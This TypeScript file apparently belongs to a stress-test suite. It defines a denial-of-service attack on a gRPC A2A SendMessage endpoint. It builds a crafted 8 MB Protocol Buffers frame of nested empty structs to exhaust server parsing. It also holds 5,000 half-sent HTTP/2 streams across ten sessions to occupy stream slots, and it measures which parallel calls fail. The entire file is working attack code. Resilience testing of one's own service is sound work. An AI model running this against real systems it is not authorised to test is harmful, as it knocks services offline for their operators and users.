import { connect, type ClientHttp2Session, type ClientHttp2Stream } from 'node:http2';
import { pause, repeatInParallel, type Attack } from './attack.ts';

const sessions = 10;
const callsPerSession = 500;

/** Calls over plain HTTP/2, so that this process encodes the message once. */
export const grpcWithoutCredentials: Attack = {
  title: 'gRPC without credentials: Structs of 8 MB in four loops, and 5,000 half-sent calls',
  prepare: async ({ grpcTarget, counts }) => {
    const frame = createFrame();
    const open = (): ClientHttp2Session => connect(`http://${grpcTarget}`).on('error', () => undefined);
    const call = (session: ClientHttp2Session): ClientHttp2Stream =>
      session
        .request({
          ':method': 'POST',
          ':path': '/lf.a2a.v1.A2AService/SendMessage',
          'content-type': 'application/grpc',
          te: 'trailers',
        })
        .on('error', () => undefined);

    return async (signal) => {
      const halfSent: ClientHttp2Stream[] = [];
      const holding = Array.from({ length: sessions }, open);
      for (const session of holding) {
        for (let n = 0; n < callsPerSession; n++) {
          const stream = call(session);
          stream.write(frame.subarray(0, 100));
          halfSent.push(stream);
        }
        await pause(100, signal);
      }
      await repeatInParallel(5, signal, async (loop) => {
        counts.values['half-sent calls open'] = halfSent.filter(isOpen).length;
        if (loop === 0) return pause(500, signal);
        const session = open();
        const stream = call(session);
        const ended = new Promise<void>((resolve) => stream.once('close', resolve));
        signal.addEventListener('abort', () => session.destroy(), { once: true });
        stream.resume().end(frame);
        await Promise.race([ended, new Promise<void>((resolve) => session.once('close', resolve))]);
        counts.add(stream.rstCode === 0 ? 'answered' : 'failed');
        session.destroy();
        if (stream.rstCode !== 0) await pause(100, signal);
      });
      for (const session of holding) session.destroy();
    };
  },
};

/** A SendMessageRequest whose metadata is `{"a": [{}, {}, …]}`, just below the limit of a request. */
function createFrame(): Buffer {
  const emptyObject = field(1, field(5, Buffer.alloc(0)));
  const values = Buffer.alloc(Math.floor(8_388_000 / emptyObject.length) * emptyObject.length, emptyObject);
  const list = field(6, values);
  const entry = Buffer.concat([field(1, Buffer.from('a')), field(2, list)]);
  const message = field(4, field(1, entry));
  const head = Buffer.alloc(5);
  head.writeUInt32BE(message.length, 1);
  return Buffer.concat([head, message]);
}

/** A field of Protocol Buffers with a length. */
function field(number: number, content: Buffer): Buffer {
  const length: number[] = [];
  let rest = content.length;
  for (; rest > 127; rest >>>= 7) length.push((rest & 127) | 128);
  return Buffer.concat([Buffer.from([(number << 3) | 2, ...length, rest]), content]);
}

/** Whether a stream exists on the server. The others wait because of its limit. */
function isOpen(stream: ClientHttp2Stream): boolean {
  return !stream.pending && !stream.closed;
}
